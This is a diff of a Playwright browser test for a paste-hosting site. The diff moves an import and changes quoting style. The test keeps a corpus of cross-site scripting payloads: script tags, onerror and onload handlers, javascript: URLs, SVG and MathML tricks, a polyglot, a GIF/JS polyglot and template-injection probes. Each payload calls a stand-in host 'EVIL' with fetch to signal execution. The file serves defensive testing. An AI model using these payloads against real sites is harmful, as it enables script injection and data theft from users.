@@ -7,8 +7,8 @@ import pytest
 from playwright.sync_api import Browser, Page, expect
 
 from browser import find_faults, take_picture, watch
+from calls import make_paste
 from faces.pages.sites import Site, start_site
-from faces.test_pastes import make_paste
 from factories import Server
 
 # What a browser sees does not depend on the database.
@@ -18,15 +18,15 @@ RUN = "window.ran=1;fetch('EVIL/ran')"
 CORPUS = {
     "script": f"<script>{RUN}</script><script src=EVIL/script.js></script>",
     "closing": f"</code></pre></script></style></title></textarea><script>{RUN}</script>",
-    "image": f"<img src=x onerror=\"{RUN}\"><img src=EVIL/image.png><video src=EVIL/v.mp4 onerror={RUN}></video>",
+    "image": f'<img src=x onerror="{RUN}"><img src=EVIL/image.png><video src=EVIL/v.mp4 onerror={RUN}></video>',
     "svg": f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\"><script>{RUN}</script>"
     f"<a xlink:href='javascript:{RUN}'><text>x</text></a><image href='EVIL/image.svg'/></svg>",
     "svg-document": f"<?xml version='1.0'?><!DOCTYPE svg><svg xmlns='http://www.w3.org/2000/svg'>"
     f"<script>{RUN}</script></svg>",
     "html-document": f"<!doctype html><html><head><base href=EVIL/><meta http-equiv=refresh content='0;url=EVIL/'>"
     f"<link rel=stylesheet href=EVIL/style.css></head><body onload=\"{RUN}\"><iframe srcdoc='<script>{RUN}</script>'>",
-    "frames": f"<iframe src=\"javascript:{RUN}\"></iframe><object data=EVIL/o></object><embed src=EVIL/e>",
-    "form": f"<form action=EVIL/form id=f><button autofocus onfocus=\"{RUN}\">x</button></form><input form=f>",
+    "frames": f'<iframe src="javascript:{RUN}"></iframe><object data=EVIL/o></object><embed src=EVIL/e>',
+    "form": f'<form action=EVIL/form id=f><button autofocus onfocus="{RUN}">x</button></form><input form=f>',
     "polyglot": f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={RUN} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
     f"</scRipt/--!>\\x3csVg/<sVg/oNloAd={RUN}//>\\x3e",
     "gif": f"GIF89a/*{'x' * 600}*/=1;{RUN}",
@@ -34,7 +34,7 @@ CORPUS = {
     "utf-7": "+ADw-script+AD4-window.ran=1+ADw-/script+AD4-",
     "utf-16": "\u3c00\u7300\u6300\u7200\u6900\u7000\u7400\u3e00",
     "mark": f"\ufeff<html><script>{RUN}</script>",
-    "mathml": f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\">",
+    "mathml": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
     "entities": f"&lt;script&gt;{RUN}&lt;/script&gt;&#60;script&#62;{RUN}&#60;/script&#62;",
     "template": "{{ 7*7 }}{% raw %}{{ config }}${7*7}#{7*7}<%= 7*7 %>",
     "attributes": f"\" autofocus onfocus=\"{RUN}\" x=\"' onmouseover='{RUN}'`",
